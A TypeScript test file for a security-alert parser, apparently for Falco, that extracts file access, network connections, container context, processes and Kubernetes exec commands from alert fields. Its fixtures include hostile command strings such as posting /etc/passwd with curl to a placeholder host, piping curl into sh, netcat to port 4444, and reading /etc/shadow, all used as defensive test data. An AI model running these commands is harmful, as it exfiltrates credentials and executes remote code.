import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import type { Alert } from "#domain/alert.ts";
import { alertFrom, factsFrom } from "./facts.fixture.ts";
import { changesFile, type FileFacts, readFacts } from "./facts.ts";

describe("the file of an event", () => {
  type Case = readonly [Readonly<Record<string, string | boolean>>, FileFacts["access"] | null];
  const cases: readonly Case[] = [
    [{ "evt.type": "openat", "evt.arg.flags": "O_RDONLY|O_CLOEXEC" }, "read"],
    [{ "evt.type": "openat", "evt.arg.flags": "O_RDONLY|O_CLOEXEC", _message: "File opened for writing" }, "read"],
    [{ "evt.type": "openat", "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY" }, "write"],
    [{ "evt.type": "openat", "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED" }, "create"],
    [{ "evt.type": "open", "evt.arg.flags": "O_RDWR" }, "write"],
    [{ "evt.type": "openat2", "evt.arg.flags": "O_CREAT" }, "create"],
    [{ "evt.type": "openat", "evt.args": "fd=3(<f>/etc/x) name=flags=0(O_RDONLY) flags=14(O_WRONLY) mode=0" }, "write"],
    [{ "evt.type": "openat", "evt.is_open_write": true }, "write"],
    [{ "evt.type": "openat", "evt.is_open_read": "true" }, "read"],
    [{ "evt.type": "creat" }, "create"],
    [{ "evt.type": "unlinkat" }, "delete"],
    [{ "evt.type": "rmdir" }, "delete"],
    [{ "evt.type": "renameat2" }, "rename"],
    [{ "evt.type": "mkdirat" }, "create"],
    [{ "evt.type": "fchmodat" }, "write"],
    [{ "evt.type": "fchownat" }, "write"],
    [{ "evt.type": "ftruncate" }, "write"],
    [{ "evt.type": "linkat" }, "link"],
    [{ "evt.type": "read" }, "read"],
    [{ "evt.type": "pwrite64" }, "write"],
    [{ "evt.type": "execve" }, "execute"],
    [{ "evt.type": "openat", _message: "Sensitive file opened for reading by non-trusted program" }, "read"],
    [{ "evt.type": "openat", _message: "File below /etc opened for writing" }, "write"],
    [{ _message: "Read monitored file via directory traversal" }, "read"],
    [{ _message: "ssh-related file/directory read by non-ssh program" }, "read"],
    [{ _message: "Log files were tampered" }, "write"],
    [{ _message: "A shell configuration file has been modified" }, "write"],
    [{ _message: "Cron jobs were scheduled to run" }, "write"],
    [{ _message: "Adding ssh keys to authorized_keys" }, "write"],
    [{ _message: "File created below /dev by untrusted program" }, "create"],
    [{ _message: "Hidden file or directory created" }, "create"],
    [{ _message: "File below known binary directory renamed/removed" }, "rename"],
    [{ _message: "Shell history deleted or renamed" }, "delete"],
    [{ _message: "Environment variables were retrieved from /proc files" }, "read"],
    [{ _message: "Write to /tmp by container" }, "write"],
    [{ _message: "A thread was seen" }, "unknown"],
    [{ "proc.cmdline": "cat /etc/x" }, "read"],
    [{ "proc.cmdline": "sh -c echo a > /etc/x" }, "write"],
    [{ "evt.type": "close", "proc.cmdline": "cat /etc/x" }, "unknown"],
    [{ _rule: "Write below etc" }, "unknown"],
    [{ _source: "okta" }, null],
    [{ "fd.type": "ipv4" }, null],
  ];
  for (const [fields, access] of cases) {
    it(`is accessed as ${access} by ${JSON.stringify(fields)}`, () => {
      const { file } = factsFrom({ "fd.name": "/etc/x", ...fields });
      assert.deepEqual(file, access === null ? null : { path: "/etc/x", access, newPath: null });
    });
  }

  it("is found where there is no descriptor", () => {
    const pathOf = (fields: Record<string, string>) => factsFrom(fields).file?.path ?? null;
    assert.equal(pathOf({ "evt.arg.filename": "/x/y", "evt.type": "chmod" }), "/x/y");
    assert.equal(pathOf({ "fs.path.name": "/x/y", "evt.type": "unlink" }), "/x/y");
    assert.equal(pathOf({ "fd.name": "<UNKNOWN>/etc/shadow" }), "/etc/shadow");
    assert.equal(pathOf({ "fd.directory": "/etc", "fd.filename": "shadow" }), "/etc/shadow");
    assert.equal(pathOf({ "fd.name": "relative.txt", "fd.type": "file" }), "relative.txt");
    assert.equal(pathOf({ "fd.name": "ffff9a->ffff9b /run/docker.sock", "fd.type": "unix" }), "/run/docker.sock");
    assert.equal(pathOf({ "fd.name": "10.0.0.1:1->10.0.0.2:2" }), null);
    assert.equal(pathOf({ "evt.arg.name": "eth0" }), null);
    assert.equal(pathOf({}), null);
  });

  it("has two ends in links and renamings", () => {
    assert.deepEqual(factsFrom({ "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/l" }).file, {
      path: "/etc/shadow",
      access: "link",
      newPath: "/tmp/l",
    });
    const ends = { "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/l" };
    assert.equal(factsFrom({ ...ends, "evt.type": "linkat" }).file?.access, "link");
    assert.equal(factsFrom({ ...ends, "evt.type": "rename" }).file?.access, "rename");
    assert.equal(factsFrom(ends).file?.access, "rename");
    assert.equal(factsFrom({ ...ends, _message: "Hardlinks created over sensitive files" }).file?.access, "link");
  });

  it("is changed by all but reading, running and the unknown", () => {
    const changed = (access: FileFacts["access"]) => changesFile({ path: "/x", access, newPath: null });
    assert.deepEqual((["write", "create", "delete", "rename", "link"] as const).map(changed), Array(5).fill(true));
    assert.deepEqual((["read", "execute", "unknown"] as const).map(changed), Array(3).fill(false));
    assert.equal(changesFile(null), false);
  });
});

describe("the paths of an alert", () => {
  it("are those of fields, words, values and redirections, each once and as written", () => {
    const facts = factsFrom({
      "fd.name": "/etc/shadow",
      "proc.cmdline":
        "sh -c cat /etc/shadow ../x //y ~/.z > /tmp/o; dd if=/dev/sda of=/tmp/i; curl -d @/etc/passwd -o/a file:///f http://h/p; run -v /:/host --c=/d/e",
    });
    for (const path of [
      "/etc/shadow",
      "../x",
      "//y",
      "~/.z",
      "/tmp/o",
      "/dev/sda",
      "/tmp/i",
      "/etc/passwd",
      "/f",
      "/host",
      "/d/e",
    ])
      assert.ok(facts.paths.includes(path), path);
    assert.equal(facts.paths.length, new Set(facts.paths).size);
    for (const path of ["http://h/p", "//h/p", "/p", "10.0.0.0/8"]) assert.ok(!facts.paths.includes(path), path);
  });
});

describe("the connection of an event", () => {
  const tuple = "10.0.0.5:51000->203.0.113.5:443";
  type Case = readonly [
    Readonly<Record<string, string | number | boolean>>,
    readonly [direction: string, remote: string | null, port: number | null, addressClass: string | null] | null,
  ];
  const cases: readonly Case[] = [
    [{ "fd.name": tuple, "evt.type": "connect" }, ["outbound", "203.0.113.5", 443, "documentation"]],
    [{ "fd.name": tuple, "evt.type": "sendto" }, ["outbound", "203.0.113.5", 443, "documentation"]],
    [{ "fd.name": tuple, "evt.type": "accept4" }, ["inbound", "10.0.0.5", 51_000, "private"]],
    [
      { "fd.name": tuple, "fd.lport": 443, "fd.rport": 51_000, "evt.type": "sendto" },
      ["inbound", "10.0.0.5", 51_000, "private"],
    ],
    [
      { "fd.name": tuple, "fd.lport": 51_000, "fd.rport": 443, "evt.type": "dup2" },
      ["outbound", "203.0.113.5", 443, "documentation"],
    ],
    [{ "fd.name": tuple, "fd.lip": "203.0.113.5", "evt.type": "recvfrom" }, ["inbound", "10.0.0.5", 51_000, "private"]],
    [{ "fd.name": tuple, "fd.is_server": true }, ["inbound", "10.0.0.5", 51_000, "private"]],
    [{ "fd.name": tuple, _message: "Outbound connection to x" }, ["outbound", "203.0.113.5", 443, "documentation"]],
    [{ "fd.name": "10.0.0.5:1->8.8.8.8:53" }, ["outbound", "8.8.8.8", 53, "public"]],
    [{ "fd.name": "8.8.8.8:51000->10.0.0.5:22" }, ["inbound", "8.8.8.8", 51_000, "public"]],
    [{ "fd.name": "10.0.0.5:1->169.254.169.254:80" }, ["outbound", "169.254.169.254", 80, "metadata"]],
    [{ "fd.name": "10.0.0.5:1->10.0.0.6:80" }, ["unknown", "10.0.0.6", 80, "private"]],
    [
      { "fd.name": "::ffff:10.0.0.5:1->::ffff:8.8.8.8:80", "evt.type": "connect" },
      ["outbound", "::ffff:8.8.8.8", 80, "public"],
    ],
    [
      { "fd.cip": "8.8.8.8", "fd.sip": "10.0.0.5", "fd.sport": 22, "evt.type": "accept" },
      ["inbound", "8.8.8.8", null, "public"],
    ],
    [{ "fd.sip": "1.1.1.1", "fd.sport": 443, "evt.type": "connect" }, ["outbound", "1.1.1.1", 443, "public"]],
    [{ "fd.rip": "1.1.1.1", "fd.rport": 443 }, ["unknown", "1.1.1.1", 443, "public"]],
    [{ "fd.name": "0.0.0.0:4444", "evt.type": "listen" }, ["inbound", null, null, null]],
    [{ "fd.name": "/etc/passwd" }, null],
    [{ "fd.name": tuple, _source: "aws_cloudtrail" }, null],
    [{ "proc.cmdline": "nc 1.1.1.1 4444" }, null],
  ];
  for (const [fields, expected] of cases) {
    it(`is ${expected?.join(" ") ?? "none"} for ${JSON.stringify(fields)}`, () => {
      const { connection } = factsFrom(fields);
      const told = connection && [
        connection.direction,
        connection.remoteAddress,
        connection.remotePort,
        connection.remoteClass,
      ];
      assert.deepEqual(told, expected);
    });
  }

  it("has a local end and a protocol", () => {
    const { connection } = factsFrom({ "fd.name": "0.0.0.0:4444", "evt.type": "listen", "fd.l4proto": "TCP" });
    assert.deepEqual([connection?.localAddress, connection?.localPort, connection?.protocol], ["0.0.0.0", 4444, "tcp"]);
  });
});

describe("the place of an event", () => {
  const where = (fields: Record<string, string>) => factsFrom(fields).container.where;

  it("is told by fields before messages", () => {
    assert.equal(where({ "container.id": "host" }), "host");
    assert.equal(where({ "container.name": "host" }), "host");
    assert.equal(where({ "container.id": "35ea53bc2a6e" }), "container");
    assert.equal(where({ "k8s.pod.name": "web-0" }), "container");
    assert.equal(where({ "container.image.repository": "nginx" }), "container");
    assert.equal(where({ "container.id": "host", _message: "A shell was spawned in a container" }), "host");
    assert.equal(where({ _message: "A shell was spawned in a container with an attached terminal" }), "container");
    assert.equal(where({ _message: "User management binary command run outside of container" }), "host");
    assert.equal(where({ "container.id": "<NA>" }), "unknown");
    assert.equal(where({ _source: "k8s_audit", "container.id": "35ea53bc2a6e" }), "unknown");
  });

  it("has image, tag, pod and capabilities", () => {
    const image = (fields: Record<string, string>) => {
      const { container } = factsFrom(fields);
      return [container.image, container.tag];
    };
    assert.deepEqual(image({ "container.image.repository": "nginx", "container.image.tag": "1.2" }), ["nginx", "1.2"]);
    assert.deepEqual(image({ "container.image": "r.example:5000/a/b:1.2" }), ["r.example:5000/a/b", "1.2"]);
    assert.deepEqual(image({ "container.image": "r.example:5000/a/b" }), ["r.example:5000/a/b", null]);
    assert.deepEqual(image({ "container.image": "a/b:1@sha256:abc" }), ["a/b", "1"]);
    const facts = factsFrom({
      "container.id": "host",
      "k8smeta.pod.name": "web-0",
      "k8s.ns.name": "prod",
      "thread.cap_effective": "CAP_CHOWN CAP_SYS_ADMIN",
      "container.privileged": true,
    });
    assert.deepEqual([facts.container.id, facts.container.pod, facts.container.namespace], [null, "web-0", "prod"]);
    assert.deepEqual(facts.container.capabilities, ["CAP_CHOWN", "CAP_SYS_ADMIN"]);
    assert.equal(facts.container.privileged, true);
  });
});

describe("the process of an event", () => {
  it("is read from fields, and from its command line where they are missing", () => {
    const facts = factsFrom({ "proc.cmdline": "/usr/bin/curl x", "proc.pcmdline": "/bin/sh -c y", "proc.tty": 34_816 });
    assert.deepEqual([facts.process.name, facts.parent.name, facts.process.terminal], ["curl", "sh", true]);
    assert.equal(factsFrom({ "proc.name": "cat", "proc.args": "/etc/shadow" }).process.command.text, "cat /etc/shadow");
    assert.equal(factsFrom({ "proc.exepath": "/bin/ls", "proc.tty": 0 }).process.name, "ls");
    assert.equal(factsFrom({ "proc.tty": 0 }).process.terminal, false);
    assert.equal(factsFrom({}).process.terminal, null);
  });

  it("has ancestors up to the first gap", () => {
    const aname = { "proc.aname[2]": "sshd", "proc.aname[4]": "systemd" };
    assert.deepEqual(factsFrom({ "proc.pname": "bash", ...aname }).ancestors, ["bash", "sshd"]);
    assert.deepEqual(factsFrom(aname).ancestors, []);
  });

  it("has an account", () => {
    const user = factsFrom({ "user.name": "alice", "user.uid": "1000", "user.loginuid": 4_294_967_295 }).user;
    assert.deepEqual(user, { name: "alice", uid: 1000, loginUid: null, kind: "user" });
    assert.equal(factsFrom({ "user.uid": 0, "user.loginuid": -1 }).user.kind, "root");
    assert.equal(factsFrom({ "user.uid": "0x0" }).user.uid, null);
  });

  type Evidence = readonly [writable: boolean | null, upper: boolean | null, memory: boolean | null];
  const cases: readonly (readonly [Readonly<Record<string, string | boolean>>, Evidence])[] = [
    [{ "evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER" }, [true, false, false]],
    [{ "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER" }, [true, true, false]],
    [{ "evt.arg.flags": "EXE_LOWER_LAYER" }, [false, false, false]],
    [{ "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD" }, [true, null, true]],
    [{ "evt.arg.flags": "O_RDONLY" }, [null, null, null]],
    [{ "proc.is_exe_upper_layer": true, "proc.is_exe_writable": "false" }, [false, true, null]],
    [{ "proc.exepath": "memfd:x" }, [null, null, true]],
    [{}, [null, null, null]],
  ];
  for (const [fields, expected] of cases) {
    it(`has evidence ${expected} by ${JSON.stringify(fields)}`, () => {
      const { exeWritable, exeUpperLayer, exeFromMemory } = factsFrom(fields).process;
      assert.deepEqual([exeWritable, exeUpperLayer, exeFromMemory], expected);
    });
  }

  it("takes no comfort from evidence that somebody may have planted, and keeps what speaks against it", () => {
    const options = { ambiguous: true, doubtful: ["evt.arg.flags", "proc.is_exe_writable"] };
    const calm = factsFrom({ "evt.arg.flags": "EXE_LOWER_LAYER", "proc.is_exe_writable": false }, options).process;
    assert.deepEqual([calm.exeWritable, calm.exeUpperLayer], [null, null]);
    assert.equal(factsFrom({ "evt.arg.flags": "EXE_UPPER_LAYER" }, options).process.exeUpperLayer, true);
  });
});

describe("a Kubernetes audit event", () => {
  it("has verb, object, user and the command of exec", () => {
    const { kubernetes, family, process } = factsFrom({
      _source: "k8s_audit",
      "ka.verb": "CREATE",
      "ka.target.resource": "pods",
      "ka.target.subresource": "exec",
      "ka.target.namespace": "prod",
      "ka.target.name": "web-0",
      "ka.user.name": "alice",
      "ka.uri.param[command]": "sh%20-c%20curl%20x|sh",
      "ka.auth.decision": "Allow",
    });
    const { commandLine, ...rest } = kubernetes;
    assert.equal(family, "k8s_audit");
    assert.deepEqual(rest, {
      verb: "create",
      resource: "pods",
      subresource: "exec",
      namespace: "prod",
      name: "web-0",
      user: "alice",
      command: "sh -c curl x|sh",
      decision: "allow",
    });
    assert.deepEqual(
      commandLine.commands.map(({ program }) => program),
      ["sh", "curl", "sh"],
    );
    assert.deepEqual(process.command.commands, []);
  });

  it("is known by its fields where the source is not told, and its verb by the message", () => {
    const facts = factsFrom({ "ka.user.name": "alice", "ka.target.name": "x", _message: "K8s Secret Deleted" });
    assert.deepEqual([facts.family, facts.kubernetes.verb], ["k8s_audit", "delete"]);
    assert.equal(factsFrom({ "ka.user.name": "alice", "proc.name": "sh" }).family, "syscall");
  });

  it("joins the parameters of a command", () => {
    const command = (text: string) => factsFrom({ "ka.uri.param[command]": text }).kubernetes.command;
    assert.equal(command("sh&command=-c&command=id%20-u&stdin=true"), "sh -c id -u");
    assert.equal(command("sh&stdin=true"), "sh");
    assert.equal(command("a && b"), "a && b");
  });

  it("keeps a broken percent sign", () => {
    assert.equal(factsFrom({ "ka.uri.param[command]": "a%zz" }).kubernetes.command, "a%zz");
  });
});

describe("readFacts", () => {
  it("knows the family of an event", () => {
    const family = (source: string) => factsFrom({ _source: source, n_evts: "1" }).family;
    const sources = ["syscall", "syscalls", "", "k8s_audit", "k8saudit-eks", "internal", "okta", "aws_cloudtrail"];
    assert.deepEqual(sources.map(family), [
      "syscall",
      "syscall",
      "syscall",
      "k8s_audit",
      "k8s_audit",
      "internal",
      "plugin",
      "plugin",
    ]);
    assert.equal(factsFrom({ _message: "Falco internal: syscall event drop", n_evts: "1" }).family, "internal");
    assert.equal(factsFrom({ _message: "Falco internal: x", n_evts: "1", "proc.name": "x" }).family, "syscall");
    assert.equal(factsFrom({ _message: "Falco internal: x" }).family, "syscall");
    assert.equal(factsFrom({ _source: "internal", "proc.cmdline": "bash -i" }).family, "syscall");
    assert.equal(factsFrom({ _source: "internal", "evt.arg.flags": "x" }).family, "syscall");
    assert.equal(factsFrom({ _source: "internal", "evt.time": "1", "evt.hostname": "h" }).family, "internal");
  });

  it("gathers everything but rule and tags in lower case on one line", () => {
    const { text } = factsFrom(
      { _rule: "SECRETRULE", _output: "Message | user=Alice", "proc.cmdline": "CAT\n/x w'ge't", "evt.num": 12 },
      { tags: ["SECRETTAG"] },
    );
    for (const piece of ["message | user=alice", "proc.cmdline=cat /x", "evt.num=12"]) assert.ok(text.includes(piece));
    assert.ok(!text.includes("secret") && !text.includes("\n"));
    assert.ok(factsFrom({ "proc.cmdline": "sh -c w'g'et x" }).text.includes("wget"));
  });

  it("reads fields as text and tells which are Falco's own", () => {
    const facts = factsFrom(
      { "proc.pname": "apt", "user.uid": 0, "proc.tty": false, "proc.name": "x" },
      { doubtful: ["proc.pname"], cut: ["proc.name"] },
    );
    assert.deepEqual(["user.uid", "proc.tty", "nothing", "constructor"].map(facts.field), ["0", "false", null, null]);
    assert.deepEqual(["user.uid", "proc.pname", "proc.name", "nothing"].map(facts.reliable), [
      true,
      false,
      false,
      false,
    ]);
    assert.equal(factsFrom({ "user.uid": 0 }, { ambiguous: true }).reliable("user.uid"), false);
  });

  it("takes the message of a fixture from its output", () => {
    assert.equal(factsFrom({ _output: "Shell spawned (user=root | x)" }).alert.message, "Shell spawned");
    assert.equal(factsFrom({ _output: "Shell spawned | user=root (x)" }).alert.message, "Shell spawned");
    assert.equal(factsFrom({ _output: "Shell spawned | x", _message: "y" }).alert.message, "y");
  });

  it("reads lists, objects and big integers", () => {
    const alert: Alert = {
      ...alertFrom({}),
      output_fields: { "ka.req.x": ["a", { b: 1n }], "evt.time": 1_722_411_000_194_019_001n },
    };
    const facts = readFacts(alert);
    assert.equal(facts.field("ka.req.x"), '["a",{"b":"1"}]');
    assert.equal(facts.field("evt.time"), "1722411000194019001");
  });

  it("never throws", () => {
    const names = fc.constantFrom(
      ..."proc.cmdline proc.pcmdline fd.name fd.type evt.type evt.arg.flags evt.args proc.tty user.uid container.image ka.uri.param[command] evt.arg.path fd.lport fd.sip _message _output _source __proto__ constructor".split(
        " ",
      ),
    );
    const values = fc.oneof(fc.string({ unit: "binary" }), fc.integer(), fc.double(), fc.boolean(), fc.constant("%"));
    fc.assert(
      fc.property(fc.dictionary(names, values), (fields) => {
        const facts = factsFrom(fields);
        assert.equal(typeof facts.text, "string");
      }),
    );
  });

  it("reads an alert of huge fields to the end", () => {
    const huge: Record<string, string> = {};
    for (const name of [
      "proc.cmdline",
      "proc.pcmdline",
      "fd.name",
      "evt.args",
      "container.image",
      "evt.arg.flags",
      "_message",
      "_output",
    ])
      huge[name] = "/a=b:c@d,e -p' $(x | ".repeat(40_000);
    assert.equal(factsFrom(huge).family, "syscall");
  });
});
